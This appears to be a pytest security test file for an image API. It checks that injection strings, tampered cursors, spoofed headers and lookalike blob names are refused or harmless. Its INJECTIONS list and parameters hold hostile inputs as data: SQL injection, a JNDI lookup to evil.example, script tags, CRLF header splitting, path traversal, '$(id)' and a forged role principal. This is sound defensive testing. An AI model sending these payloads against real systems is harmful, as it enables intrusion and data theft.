"""What an attacker would try with requests, beyond what the tests of single parts have.

Elsewhere: names of blobs (domain/test_blob_names.py), tokens (common/adapters/test_access_tokens.py), cursors with a
changed bit (common/domain/test_cursors.py), reuse of a signed URL for another blob or another method
(emulator/services/storage/test_shared_access_signatures.py), files that are too large or no images
(pipeline/domain/test_image_checks.py), and fuzzing by the OpenAPI document (test_openapi.py).
"""

import asyncio
import json
import logging
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from common.adapters.record_queries import CosmosRecordQueries
from common.adapters.service_errors import ServiceBoundary
from common.domain.cursors import CursorSigner
from image_api.adapters.blobs import SignedImageBlobs
from image_api.use_cases.application import Application

from tests.functions.api.adapters.test_blobs import EXPIRY, NOW, BlobService
from tests.support.cursor_keys import DayKeys
from tests.support.fake_query_container import FakeQueryContainer, row
from tests.support.in_memory_api import Answer, ApiClient, InMemoryApi, create_record

type Send = Callable[..., Answer]
ID = create_record("cat.png").id
UPLOAD = {"name": "a.png", "contentType": "image/png", "sizeBytes": 3}
# Values that some interpreter would take for something else than a text.
INJECTIONS = [
    "' OR 1=1 --",
    '" OR ""="',
    "x') OR (true",
    "@start",
    "c.id",
    "\\",
    "/* */",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%00",
    "\x00",
    "a\r\nSet-Cookie: a=b",
    "..%2f..%2fdeadletter",
    "$(id)",
    "🏴\u202e",
]


@dataclass
class QueriedApi(InMemoryApi):
    """The services, with the shipped queries over a container that keeps their texts."""

    container: FakeQueryContainer = field(default_factory=lambda: FakeQueryContainer(*(row(n) for n in range(30))))

    def application(self) -> Application:
        """Return the application with the shipped queries."""
        application = super().application()
        boundary = ServiceBoundary("Cosmos DB")
        container: Any = self.container
        queries = CosmosRecordQueries(container, boundary, CursorSigner(DayKeys()))
        return replace(application, search=replace(application.search, queries=queries))

    async def vectorize(self, text: str) -> tuple[float, ...]:
        """Implements `TextVectorizer.vectorize`."""
        return (float(len(text)),) * 1024


@pytest.fixture
def queried() -> QueriedApi:
    return QueriedApi()


@pytest.fixture
def send_query(queried: QueriedApi) -> Send:
    client = ApiClient(queried)
    return lambda *arguments, **options: asyncio.run(client.send(*arguments, **options))


# Each parameter that is a text of the caller, with a value that is valid.
TEXT_PARAMETERS = [
    "/api/images?label={}",
    "/api/images?label=cat&category={}",
    "/api/images?q={}",
    "/api/images?q={}&sort=newest",
]


@pytest.mark.parametrize("path", TEXT_PARAMETERS)
def test_texts_of_a_caller_never_become_part_of_a_query(queried: QueriedApi, send_query: Send, path: str) -> None:
    """The query is the one of harmless texts with as many words."""
    harmless = ["the", *(" ".join(f"word{number}" for number in range(words)) for words in range(1, 11))]
    for text in harmless:
        assert send_query("GET", path.format(quote(text))).status == 200
    expected = {text for text, _ in queried.container.queries}
    queried.container.queries.clear()
    for injection in INJECTIONS:
        answer = send_query("GET", path.format(quote(injection)))
        # A text without a word that says something needs no query; characters that no text has are refused.
        assert answer.status in {200, 400}
    assert queried.container.queries
    assert {text for text, _ in queried.container.queries} <= expected


@pytest.mark.parametrize("injection", INJECTIONS)
@pytest.mark.parametrize(
    "path",
    [
        "/api/images?status={}",
        "/api/images?sort={}",
        "/api/images?since={}",
        "/api/images?until={}",
        "/api/images?limit={}",
        "/api/images?label=cat&minConfidence={}",
        "/api/images?cursor={}",
        "/api/images?{}=1",
        "/api/labels?since={}",
        "/api/categories?until={}",
        "/api/stats?since={}",
        f"/api/images/{ID}/similar?limit={{}}",
        f"/api/images/{ID}?name={{}}",
        "/api/images/{}",
        "/api/images/{}/content",
        "/api/images/{}/similar",
    ],
)
def test_a_value_that_is_none_of_the_parameter_is_refused(
    queried: QueriedApi, send_query: Send, path: str, injection: str
) -> None:
    queried.add(create_record("cat.png", vector=(0.1,) * 1024))
    answer = send_query("GET", path.format(quote(injection, safe="")))
    assert answer.status in {400, 404}
    assert queried.container.queries == []
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert not [value for value in answer.headers.values() if "\n" in value or "evil" in value]


@pytest.mark.parametrize(
    "query",
    [
        "limit=1&limit=100",
        "limit=%EF%BC%91",
        "limit=1e3",
        "limit=-1",
        "limit=9999999999999999999999",
        "minConfidence=inf&label=cat",
        "minConfidence=-0.1&label=cat",
        "since=0000-01-01T00:00:00Z",
        "since=9999-12-31T23:59:59-23:59",
        "until=0001-01-01T00:00:00%2B23:59",
        "since=2026-02-30T00:00:00Z",
        "since=2026-01-01T00:00:00Z&since=2026-01-01T00:00:00Z",
        "sort=newest&sort=newest",
        "Limit=1",
        "limit%5B%5D=1",
        "__class__=1",
        "q=cat&" + "&".join(f"x{number}=1" for number in range(500)),
    ],
)
def test_values_at_the_edge_of_what_can_be_parsed_are_refused(send_query: Send, query: str) -> None:
    answer = send_query("GET", f"/api/images?{query}")
    assert (answer.status, answer.json["code"]) == (400, "invalidRequest")


def first_cursor(send_query: Send, query: str) -> str:
    """The cursor of the second page."""
    return send_query("GET", f"/api/images?{query}").json["cursor"]


@pytest.mark.parametrize(
    "tamper",
    [
        lambda cursor: cursor[:-1],
        lambda cursor: cursor + "A",
        lambda cursor: cursor[1:],
        lambda cursor: cursor.swapcase(),
        lambda cursor: cursor + cursor,
        lambda cursor: cursor.replace(cursor[5], "A" if cursor[5] != "A" else "B"),
        lambda cursor: f" {cursor}",
        lambda cursor: f"{cursor}=",
    ],
)
def test_a_cursor_that_was_changed_reads_nothing(
    queried: QueriedApi, send_query: Send, tamper: Callable[[str], str]
) -> None:
    cursor = first_cursor(send_query, "label=cat&limit=10")
    queried.container.queries.clear()
    answer = send_query("GET", f"/api/images?label=cat&limit=10&cursor={quote(tamper(cursor))}")
    assert (answer.status, answer.json["code"]) == (400, "invalidRequest")
    assert queried.container.queries == []


@pytest.mark.parametrize("query", ["label=dog", "limit=10", "label=cat&status=failed", "label=cat&sort=oldest"])
def test_a_cursor_opens_no_other_list(queried: QueriedApi, send_query: Send, query: str) -> None:
    cursor = first_cursor(send_query, "label=cat&limit=10")
    assert send_query("GET", f"/api/images?label=cat&limit=10&cursor={cursor}").status == 200
    queried.container.queries.clear()
    assert send_query("GET", f"/api/images?{query}&cursor={cursor}").status == 400
    assert queried.container.queries == []


@pytest.mark.parametrize(
    "name",
    [
        "%2e%2e/deadletter/x.png",
        "%2e%2e%2fdeadletter%2fx.png",
        "a?restype=container&comp=list",
        "a#fragment",
        "a.png?sp=rwd&sig=x",
        "a;b=c/d@evil.example",
        "https:/evil.example/a.png",
        "%252e%252e/x.png",
        "+ +.png",
    ],
)
def test_an_allowed_name_that_looks_like_another_address_is_one_blob_of_the_container(name: str) -> None:
    service: Any = BlobService()

    async def create() -> str:
        return await SignedImageBlobs(service, "images").create_upload_url(name, now=NOW, expires_at=EXPIRY)

    url = urlsplit(asyncio.run(create()))
    assert (url.scheme, url.netloc, url.fragment) == ("https", "acct.blob.core.windows.net", "")
    assert unquote(url.path) == f"/images/{name}"
    assert url.path.count("/") == name.count("/") + 2
    assert url.query.count("sp=") == 1


def test_the_last_of_two_values_in_a_body_is_the_one_that_is_checked(send: Send) -> None:
    body = b'{"name": "a.png", "name": "../deadletter/a.png", "contentType": "image/png", "sizeBytes": 3}'
    answer = send("POST", "/api/uploads", body=body, headers={"Content-Type": "application/json"})
    assert (answer.status, answer.json["code"]) == (400, "invalidName")


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"},
        {"Forwarded": "host=evil.example"},
        {"X-Original-URL": "https://evil.example/api/labels"},
        {"Referer": "https://evil.example/"},
        {"Origin": "https://evil.example"},
        {"traceparent": "00-evil.example-b7ad6b7169203331-01"},
    ],
)
def test_headers_of_a_caller_are_in_no_address(send: Send, headers: dict[str, str]) -> None:
    answer = send("POST", "/api/uploads", json_body=UPLOAD, headers=headers)
    assert answer.status == 201
    assert answer.json["statusUrl"].startswith("/api/images/")
    assert "evil" not in json.dumps([dict(answer.headers), answer.json])


@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_a_header_does_not_change_the_method(api: InMemoryApi, send: Send, header: str) -> None:
    api.add(create_record("cat.png"))
    assert send("GET", f"/api/images/{ID}", headers={header: "DELETE"}).status == 200
    assert api.deletions == []


def test_roles_in_a_request_are_not_those_of_the_token(api: InMemoryApi, send: Send) -> None:
    api.add(create_record("cat.png"))
    headers = {"X-MS-CLIENT-PRINCIPAL": "eyJyb2xlcyI6WyJJbWFnZXMuRGVsZXRlIl19", "roles": "Images.Delete"}
    assert send("DELETE", f"/api/images/{ID}", token="reader", headers=headers).status == 403
    assert api.deletions == []


@pytest.mark.parametrize("key", ["code=master", "x-functions-key=master", "access_token=all"])
def test_a_key_or_a_token_in_the_address_is_none(send: Send, key: str) -> None:
    assert send("GET", f"/api/images?{key}", token=None).status == 401


@pytest.mark.parametrize("method", ["PUT", "PATCH", "POST", "TRACE", "HEAD"])
def test_methods_that_an_image_does_not_have_are_not_found(send: Send, method: str) -> None:
    assert send(method, f"/api/images/{ID}").status == 404


def test_the_log_has_neither_tokens_nor_what_was_searched_nor_signatures(
    api: InMemoryApi, send: Send, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    api.add(create_record("cat.png"), text="a cat")
    send("GET", "/api/images?q=private-matter&label=cat", token="reader")
    send("GET", f"/api/images/{ID}/content", token="reader")
    send("POST", "/api/uploads", json_body=UPLOAD | {"name": "private-matter.png"}, token="uploader")
    send("GET", "/api/images?cursor=private-matter", token="reader")
    assert len(caplog.records) >= 4
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert [text for text in ("private-matter", "Bearer", "sp=r", "sp=c") if text in logged] == []
